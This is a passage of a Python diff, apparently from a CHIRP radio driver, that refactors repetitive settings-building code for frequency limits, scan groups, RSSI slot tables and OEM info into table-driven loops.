+         ("vfob_rssi_uhf", RSSI_LABELS,
+          ("vfob_rssi_band", "uhf", UHF_BAND))),
+        ("bvhf_unkadj_grp", "VFOB VHF Unknown Adjust", "_createSlotSettings",
+         ("vfob_vhf_unk_adj", UNK_ADJ_LABELS)),
+        ("buhf_unkadj_grp", "VFOB UHF Unknown Adjust", "_createSlotSettings",
+         ("vfob_uhf_unk_adj", UNK_ADJ_LABELS)),
+        ("adv_grp", "Advanced settings", None, ()),
+        ("oem_grp", "OEM Info", "_createOemSettings", ()),
+    )
+
     def _get_settings(self):
-        _settings = self._memobj.settings
-        _vfoa = self._memobj.vfoa
-        _vfob = self._memobj.vfob
-        cfg_grp = RadioSettingGroup("cfg_grp", "Configuration")
-        vfoa_grp = RadioSettingGroup("vfoa_grp", "VFO A Settings")
-        vfob_grp = RadioSettingGroup("vfob_grp", "VFO B Settings")
-        key_grp = RadioSettingGroup("key_grp", "Key Settings")
-        scan_grp = RadioSettingGroup("scan_grp", "Scan groups")
-        lmt_grp = RadioSettingGroup("lmt_grp", "Frequency Limits")
-        vpwr_grp = RadioSettingGroup("vhf_power_grp", "VHF Power")
-        upwr_grp = RadioSettingGroup("uhf_power_grp", "UHF Power")
-        vrxa_grp = RadioSettingGroup("avhf_rx_grp", "VFO A VHF RX")
-        urxa_grp = RadioSettingGroup("auhf_rx_grp", "VFO A UHF RX")
-        vunkadja_grp = RadioSettingGroup("avhf_unkadj_grp", "VFOA VHF Unknown Adjust")
-        uunkadja_grp = RadioSettingGroup("auhf_unkadj_grp", "VFOA UHF Unknown Adjust")
-        vrxb_grp = RadioSettingGroup("bvhf_rx_grp", "VFO B VHF RX")
-        urxb_grp = RadioSettingGroup("buhf_rx_grp", "VFO B UHF RX")
-        vunkadjb_grp = RadioSettingGroup("bvhf_unkadj_grp", "VFOB VHF Unknown Adjust")
-        uunkadjb_grp = RadioSettingGroup("buhf_unkadj_grp", "VFOB UHF Unknown Adjust")
-        adv_grp = RadioSettingGroup("adv_grp", "Advanced settings")
-        oem_grp = RadioSettingGroup("oem_grp", "OEM Info")
-
-        group = RadioSettings(cfg_grp, vfoa_grp, vfob_grp,
-                              key_grp, scan_grp, lmt_grp, vpwr_grp,
-                              upwr_grp,
-                              vrxa_grp, urxa_grp,
-                              vunkadja_grp, uunkadja_grp,
-                              vrxb_grp, urxb_grp,
-                              vunkadjb_grp, uunkadjb_grp,
-                              adv_grp, oem_grp)
-
-
-        self._createConfigSettings(_settings, cfg_grp)
-        self._createVfoASettings(_settings, _vfoa, vfoa_grp)
-        self._createVfoBSettings(_settings, _vfob, vfob_grp)
-        self._createKeySettings(_settings, key_grp)
-        self._createVhfPowerSettings(vpwr_grp)
-        self._createUhfPowerSettings(upwr_grp)
-        self._createVfoAVhfRxSettings(vrxa_grp)
-        self._createVfoAUhfRxSettings(urxa_grp)
-        self._createVfoAVhfUnkAdjSettings(vunkadja_grp)
-        self._createVfoAUhfUnkAdjSettings(uunkadja_grp)
-        self._createVfoBVhfUnkAdjSettings(vunkadjb_grp)
-        self._createVfoBUhfUnkAdjSettings(uunkadjb_grp)
-        self._createVfoBVhfRxSettings(vrxb_grp)
-        self._createVfoBUhfRxSettings(urxb_grp)
-        self._createScanGroupsSettings(scan_grp)
-        self._createLimitsSettings(lmt_grp)
-        self._createOemSettings(oem_grp)
-
-        return group
+        groups = []
+        for name, label, builder, args in self._setting_groups:
+            grp = RadioSettingGroup(name, label)
+            if builder:
+                getattr(self, builder)(grp, *args)
+            groups.append(grp)
+        return RadioSettings(*groups)
+
+    def _make_u8_setting(self, name, label, value):
+        return RadioSetting(name, label,
+                            RadioSettingValueInteger(0, 255, value, 1))
+
+    def _append_slot_group(self, grp, name, labels):
+        # one 0-255 setting per slot s1..s16 of the named struct, the
+        # slots are its 16 consecutive u8 fields so read them in one go
+        _raw = getattr(self._memobj, name).get_raw()
+        for key, label, value in zip(SLOT_KEYS, labels, _raw):
+            grp.append(self._make_u8_setting("%s.%s" % (name, key), label,
+                                             value))
 
     def _createOemSettings(self, oem_grp):
         def _decode(lst):
-            _str = ''.join([chr(c) for c in lst
-                            if chr(c) in chirp_common.CHARSET_ASCII])
-            return _str
+            return lst.get_raw().translate(None, OEM_DELETE).decode("ascii")
 
-        _str = _decode(self._memobj.oem_info.model)
+        _oem = self._memobj.oem_info
+        _str = _decode(_oem.model)
         val = RadioSettingValueString(0, 15, _str)
         val.set_mutable(False)
         rs = RadioSetting("oem_info.model", "Model", val)
         oem_grp.append(rs)
-        _str = _decode(self._memobj.oem_info.model2)
+        _str = _decode(_oem.model2)
         val = RadioSettingValueString(0, 15, _str)
         val.set_mutable(False)
         rs = RadioSetting("oem_info.model2", "Model2", val)
         oem_grp.append(rs)
-        _str = _decode(self._memobj.oem_info.oem1)
+        _str = _decode(_oem.oem1)
         val = RadioSettingValueString(0, 15, _str)
         val.set_mutable(False)
         rs = RadioSetting("oem_info.oem1", "OEM String 1", val)
         oem_grp.append(rs)
-        _str = _decode(self._memobj.oem_info.oem2)
+        _str = _decode(_oem.oem2)
         val = RadioSettingValueString(0, 15, _str)
         val.set_mutable(False)
         rs = RadioSetting("oem_info.oem2", "OEM String 2", val)
         oem_grp.append(rs)
-        _str = _decode(self._memobj.oem_info.version)
+        _str = _decode(_oem.version)
         val = RadioSettingValueString(0, 15, _str)
         val.set_mutable(False)
         rs = RadioSetting("oem_info.version", "Software Version", val)
         oem_grp.append(rs)
-        _str = _decode(self._memobj.oem_info.date)
+        _str = _decode(_oem.date)
         val = RadioSettingValueString(0, 15, _str)
         val.set_mutable(False)
         rs = RadioSetting("date", "OEM Date", val)
         oem_grp.append(rs)
 
     def _createLimitsSettings(self, lmt_grp):
-        rs = RadioSetting("vhf_limits.rx_start", "VHF RX Lower Limit. Min: 130Mhz",
-                          RadioSettingValueInteger(
-                              130000000, 185000000,
-                              self._memobj.vhf_limits.rx_start * 10, 5000))
-        lmt_grp.append(rs)
-        rs = RadioSetting("vhf_limits.rx_stop", "VHF RX Upper Limit. Max: 185Mhz",
-                          RadioSettingValueInteger(
-                              130000000, 185000000,
-                              self._memobj.vhf_limits.rx_stop * 10, 5000))
-        lmt_grp.append(rs)
-        rs = RadioSetting("vhf_limits.tx_start", "VHF TX Lower Limit. Min: 130Mhz",
-                          RadioSettingValueInteger(
-                              130000000, 185000000,
-                              self._memobj.vhf_limits.tx_start * 10, 5000))
-        lmt_grp.append(rs)
-        rs = RadioSetting("vhf_limits.tx_stop", "VHF TX Upper Limit. Max: 185Mhz",
-                          RadioSettingValueInteger(
-                              130000000, 185000000,
-                              self._memobj.vhf_limits.tx_stop * 10, 5000))
-        lmt_grp.append(rs)
-        rs = RadioSetting("uhf_limits.rx_start", "UHF RX Lower Limit. Min: 230Mhz",
-                          RadioSettingValueInteger(
-                              230000000, 580000000,
-                              self._memobj.uhf_limits.rx_start * 10, 5000))
-        lmt_grp.append(rs)
-        rs = RadioSetting("uhf_limits.rx_stop", "UHF RX Upper Limit. Max: 480Mhz",
-                          RadioSettingValueInteger(
-                              230000000, 580000000,
-                              self._memobj.uhf_limits.rx_stop * 10, 5000))
-        lmt_grp.append(rs)
-        rs = RadioSetting("uhf_limits.tx_start", "UHF TX Lower Limit. Min: 230Mhz",
-                          RadioSettingValueInteger(
-                              230000000, 580000000,
-                              self._memobj.uhf_limits.tx_start * 10, 5000))
-        lmt_grp.append(rs)
-        rs = RadioSetting("uhf_limits.tx_stop", "UHF TX Upper Limit. Max: 480Mhz",
-                          RadioSettingValueInteger(
-                              23000000, 580000000,
-                              self._memobj.uhf_limits.tx_stop * 10, 5000))
-        lmt_grp.append(rs)
+        for name, label, (lower, upper) in FREQ_LIMITS:
+            rs = RadioSetting(name, label,
+                              RadioSettingValueInteger(
+                                  lower, upper,
+                                  attrgetter(name)(self._memobj) * 10, 5000))
+            lmt_grp.append(rs)
 
     def _createScanGroupsSettings(self, scan_grp):
-        rs = RadioSetting("scan_groups.0.lower", "1 From",
-                          RadioSettingValueInteger(
-                              1, 999,
-                              self._memobj.scan_groups[0].lower, 1))
-        scan_grp.append(rs)
-        rs = RadioSetting("scan_groups.0.upper", "1 To",
-                          RadioSettingValueInteger(
-                              1, 999,
-                              self._memobj.scan_groups[0].upper, 1))
-        scan_grp.append(rs)
-        rs = RadioSetting("scan_groups.1.lower", "2 From",
-                          RadioSettingValueInteger(
-                              1, 999,
-                              self._memobj.scan_groups[1].lower, 1))
-        scan_grp.append(rs)
-        rs = RadioSetting("scan_groups.1.upper", "2 To",
-                          RadioSettingValueInteger(
-                              1, 999,
-                              self._memobj.scan_groups[1].upper, 1))
-        scan_grp.append(rs)
-        rs = RadioSetting("scan_groups.2.lower", "3 From",
-                          RadioSettingValueInteger(
-                              1, 999,
-                              self._memobj.scan_groups[2].lower, 1))
-        scan_grp.append(rs)
-        rs = RadioSetting("scan_groups.2.upper", "3 To",
-                          RadioSettingValueInteger(
-                              1, 999,
-                              self._memobj.scan_groups[2].upper, 1))
-        scan_grp.append(rs)
-        rs = RadioSetting("scan_groups.3.lower", "4 From",
-                          RadioSettingValueInteger(
-                              1, 999,
-                              self._memobj.scan_groups[3].lower, 1))
-        scan_grp.append(rs)
-        rs = RadioSetting("scan_groups.3.upper", "4 To",
-                          RadioSettingValueInteger(
-                              1, 999,
-                              self._memobj.scan_groups[3].upper, 1))
-        scan_grp.append(rs)
-        rs = RadioSetting("scan_groups.4.lower", "5 From",
-                          RadioSettingValueInteger(
-                              1, 999,
-                              self._memobj.scan_groups[4].lower, 1))
-        scan_grp.append(rs)
-        rs = RadioSetting("scan_groups.4.upper", "5 To",
-                          RadioSettingValueInteger(
-                              1, 999,
-                              self._memobj.scan_groups[4].upper, 1))
-        scan_grp.append(rs)
-        rs = RadioSetting("scan_groups.5.lower", "6 From",
-                          RadioSettingValueInteger(
-                              1, 999,
-                              self._memobj.scan_groups[5].lower, 1))
-        scan_grp.append(rs)
-        rs = RadioSetting("scan_groups.5.upper", "6 To",
-                          RadioSettingValueInteger(
-                              1, 999,
-                              self._memobj.scan_groups[5].upper, 1))
-        scan_grp.append(rs)
-        rs = RadioSetting("scan_groups.6.lower", "7 From",
-                          RadioSettingValueInteger(
-                              1, 999,
-                              self._memobj.scan_groups[6].lower, 1))
-        scan_grp.append(rs)
-        rs = RadioSetting("scan_groups.6.upper", "7 To",
-                          RadioSettingValueInteger(
-                              1, 999,
-                              self._memobj.scan_groups[6].upper, 1))
-        scan_grp.append(rs)
-        rs = RadioSetting("scan_groups.7.lower", "8 From",
-                          RadioSettingValueInteger(
-                              1, 999,
-                              self._memobj.scan_groups[7].lower, 1))
-        scan_grp.append(rs)
-        rs = RadioSetting("scan_groups.7.upper", "8 To",
-                          RadioSettingValueInteger(
-                              1, 999,
-                              self._memobj.scan_groups[7].upper, 1))
-        scan_grp.append(rs)
-        rs = RadioSetting("scan_groups.8.lower", "9 From",
-                          RadioSettingValueInteger(
-                              1, 999,
-                              self._memobj.scan_groups[8].lower, 1))
-        scan_grp.append(rs)
-        rs = RadioSetting("scan_groups.8.upper", "9 To",
-                          RadioSettingValueInteger(
-                              1, 999,
-                              self._memobj.scan_groups[8].upper, 1))
-        scan_grp.append(rs)
-        rs = RadioSetting("scan_groups.9.lower", "10 From",
-                          RadioSettingValueInteger(
-                              1, 999,
-                              self._memobj.scan_groups[9].lower, 1))
-        scan_grp.append(rs)
-        rs = RadioSetting("scan_groups.9.upper", "10 To",
-                          RadioSettingValueInteger(
-                              1, 999,
-                              self._memobj.scan_groups[9].upper, 1))
-        scan_grp.append(rs)
-
-    def _createVfoAUhfRxSettings(self, grp):
-        rs = RadioSetting("vfoa_rssi_band.freq_start_uhf", "Frequency band start",
-                          RadioSettingValueInteger(
-                              230000000, 580000000,
-                              self._memobj.vfoa_rssi_band.freq_start_uhf * 10, 1000000))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_rssi_band.freq_spacing_uhf", "Band spacing in Mhz",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_rssi_band.freq_spacing_uhf, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_rssi_uhf.s1", "RSSI <= Rng1 (Band start)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_rssi_uhf.s1, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_rssi_uhf.s2", "RSSI Rng2 (Band start + Spacing)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_rssi_uhf.s2, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_rssi_uhf.s3", "RSSI Rng3 (Band start + Spacing * 2)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_rssi_uhf.s3, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_rssi_uhf.s4", "RSSI Rng4 (Band start + Spacing * 3)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_rssi_uhf.s4, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_rssi_uhf.s5", "RSSI Rng5 (Band start + Spacing * 4)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_rssi_uhf.s5, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_rssi_uhf.s6", "RSSI Rng6 (Band start + Spacing * 5)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_rssi_uhf.s6, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_rssi_uhf.s7", "RSSI Rng7 (Band start + Spacing * 6)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_rssi_uhf.s7, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_rssi_uhf.s8", "RSSI Rng8 (Band start + Spacing * 7)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_rssi_uhf.s8, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_rssi_uhf.s9", "RSSI Rng9 (Band start + Spacing * 8)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_rssi_uhf.s9, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_rssi_uhf.s10", "RSSI Rng10 (Band start + Spacing * 9)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_rssi_uhf.s10, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_rssi_uhf.s11", "RSSI Rng11 (Band start + Spacing * 10)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_rssi_uhf.s11, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_rssi_uhf.s12", "RSSI Rng12 (Band start + Spacing * 11)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_rssi_uhf.s12, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_rssi_uhf.s13", "RSSI Rng13 (Band start + Spacing * 12)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_rssi_uhf.s13, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_rssi_uhf.s14", "RSSI Rng14 (Band start + Spacing * 13)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_rssi_uhf.s14, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_rssi_uhf.s15", "RSSI Rng15 (Band start + Spacing * 14)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_rssi_uhf.s15, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_rssi_uhf.s16", "RSSI >= Rng16 (Band start + Spacing * 15)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_rssi_uhf.s16, 1))
-        grp.append(rs)
-
-    def _createVfoAVhfRxSettings(self, grp):
-        rs = RadioSetting("vfoa_rssi_band.freq_start_vhf", "Frequency band start",
-                          RadioSettingValueInteger(
-                              130000000, 185000000,
-                              self._memobj.vfoa_rssi_band.freq_start_vhf * 10, 1000000))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_rssi_band.freq_spacing_vhf", "Band spacing in Mhz",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_rssi_band.freq_spacing_vhf, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_rssi_vhf.s1", "RSSI <= Rng1 (Band start)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_rssi_vhf.s1, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_rssi_vhf.s2", "RSSI Rng2 (Band start + Spacing)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_rssi_vhf.s2, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_rssi_vhf.s3", "RSSI Rng3 (Band start + Spacing * 2)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_rssi_vhf.s3, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_rssi_vhf.s4", "RSSI Rng4 (Band start + Spacing * 3)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_rssi_vhf.s4, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_rssi_vhf.s5", "RSSI Rng5 (Band start + Spacing * 4)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_rssi_vhf.s5, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_rssi_vhf.s6", "RSSI Rng6 (Band start + Spacing * 5)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_rssi_vhf.s6, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_rssi_vhf.s7", "RSSI Rng7 (Band start + Spacing * 6)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_rssi_vhf.s7, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_rssi_vhf.s8", "RSSI Rng8 (Band start + Spacing * 7)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_rssi_vhf.s8, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_rssi_vhf.s9", "RSSI Rng9 (Band start + Spacing * 8)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_rssi_vhf.s9, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_rssi_vhf.s10", "RSSI Rng10 (Band start + Spacing * 9)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_rssi_vhf.s10, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_rssi_vhf.s11", "RSSI Rng11 (Band start + Spacing * 10)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_rssi_vhf.s11, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_rssi_vhf.s12", "RSSI Rng12 (Band start + Spacing * 11)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_rssi_vhf.s12, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_rssi_vhf.s13", "RSSI Rng13 (Band start + Spacing * 12)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_rssi_vhf.s13, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_rssi_vhf.s14", "RSSI Rng14 (Band start + Spacing * 13)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_rssi_vhf.s14, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_rssi_vhf.s15", "RSSI Rng15 (Band start + Spacing * 14)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_rssi_vhf.s15, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_rssi_vhf.s16", "RSSI >= Rng16 (Band start + Spacing * 15)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_rssi_vhf.s16, 1))
-        grp.append(rs)
-
-    def _createVfoAVhfUnkAdjSettings(self, grp):
-        rs = RadioSetting("vfoa_vhf_unk_adj.s1", "<= Rng1",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_vhf_unk_adj.s1, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_vhf_unk_adj.s2", "Rng2",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_vhf_unk_adj.s2, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_vhf_unk_adj.s3", "Rng3",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_vhf_unk_adj.s3, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_vhf_unk_adj.s4", "Rng4",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_vhf_unk_adj.s4, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_vhf_unk_adj.s5", "Rng5",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_vhf_unk_adj.s5, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_vhf_unk_adj.s6", "Rng6",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_vhf_unk_adj.s6, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_vhf_unk_adj.s7", "Rng7",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_vhf_unk_adj.s7, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_vhf_unk_adj.s8", "Rng8",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_vhf_unk_adj.s8, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_vhf_unk_adj.s9", "Rng9",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_vhf_unk_adj.s9, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_vhf_unk_adj.s10", "Rng10",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_vhf_unk_adj.s10, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_vhf_unk_adj.s11", "Rng11",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_vhf_unk_adj.s11, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_vhf_unk_adj.s12", "Rng12",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_vhf_unk_adj.s12, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_vhf_unk_adj.s13", "Rng13",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_vhf_unk_adj.s13, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_vhf_unk_adj.s14", "Rng14",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_vhf_unk_adj.s14, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_vhf_unk_adj.s15", "Rng15",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_vhf_unk_adj.s15, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_vhf_unk_adj.s16", "RX >= Rng16",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_vhf_unk_adj.s16, 1))
-        grp.append(rs)
-
-    def _createVfoAUhfUnkAdjSettings(self, grp):
-        rs = RadioSetting("vfoa_uhf_unk_adj.s1", "<= Rng1",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_uhf_unk_adj.s1, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_uhf_unk_adj.s2", "Rng2",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_uhf_unk_adj.s2, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_uhf_unk_adj.s3", "Rng3",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_uhf_unk_adj.s3, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_uhf_unk_adj.s4", "Rng4",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_uhf_unk_adj.s4, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_uhf_unk_adj.s5", "Rng5",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_uhf_unk_adj.s5, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_uhf_unk_adj.s6", "Rng6",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_uhf_unk_adj.s6, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_uhf_unk_adj.s7", "Rng7 ",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_uhf_unk_adj.s7, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_uhf_unk_adj.s8", "Rng8",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_uhf_unk_adj.s8, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_uhf_unk_adj.s9", "Rng9",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_uhf_unk_adj.s9, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_uhf_unk_adj.s10", "Rng10",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_uhf_unk_adj.s10, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_uhf_unk_adj.s11", "Rng11",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_uhf_unk_adj.s11, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_uhf_unk_adj.s12", "Rng12",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_uhf_unk_adj.s12, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_uhf_unk_adj.s13", "Rng13",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_uhf_unk_adj.s13, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_uhf_unk_adj.s14", "Rng14",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_uhf_unk_adj.s14, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_uhf_unk_adj.s15", "Rng15",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_uhf_unk_adj.s15, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfoa_uhf_unk_adj.s16", ">= Rng16",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfoa_uhf_unk_adj.s16, 1))
-        grp.append(rs)
-
-    def _createVfoBVhfRxSettings(self, grp):
-        rs = RadioSetting("vfob_rssi_band.freq_start_vhf", "Frequency band start",
-                          RadioSettingValueInteger(
-                              130000000, 185000000,
-                              self._memobj.vfob_rssi_band.freq_start_vhf * 10, 1000000))
-        grp.append(rs)
-        rs = RadioSetting("vfob_rssi_band.freq_spacing_vhf", "Band spacing in Mhz",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_rssi_band.freq_spacing_vhf, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_rssi_vhf.s1", "RSSI <= Rng1 (Band start)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_rssi_vhf.s1, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_rssi_vhf.s2", "RSSI Rng2 (Band start + Spacing)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_rssi_vhf.s2, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_rssi_vhf.s3", "RSSI Rng3 (Band start + Spacing * 2)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_rssi_vhf.s3, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_rssi_vhf.s4", "RSSI Rng4 (Band start + Spacing * 3)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_rssi_vhf.s4, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_rssi_vhf.s5", "RSSI Rng5 (Band start + Spacing * 4)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_rssi_vhf.s5, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_rssi_vhf.s6", "RSSI Rng6 (Band start + Spacing * 5)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_rssi_vhf.s6, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_rssi_vhf.s7", "RSSI Rng7 (Band start + Spacing * 6)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_rssi_vhf.s7, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_rssi_vhf.s8", "RSSI Rng8 (Band start + Spacing * 7)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_rssi_vhf.s8, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_rssi_vhf.s9", "RSSI Rng9 (Band start + Spacing * 8)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_rssi_vhf.s9, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_rssi_vhf.s10", "RSSI Rng10 (Band start + Spacing * 9)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_rssi_vhf.s10, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_rssi_vhf.s11", "RSSI Rng11 (Band start + Spacing * 10)",
-                          RadioSettingValueInteger(
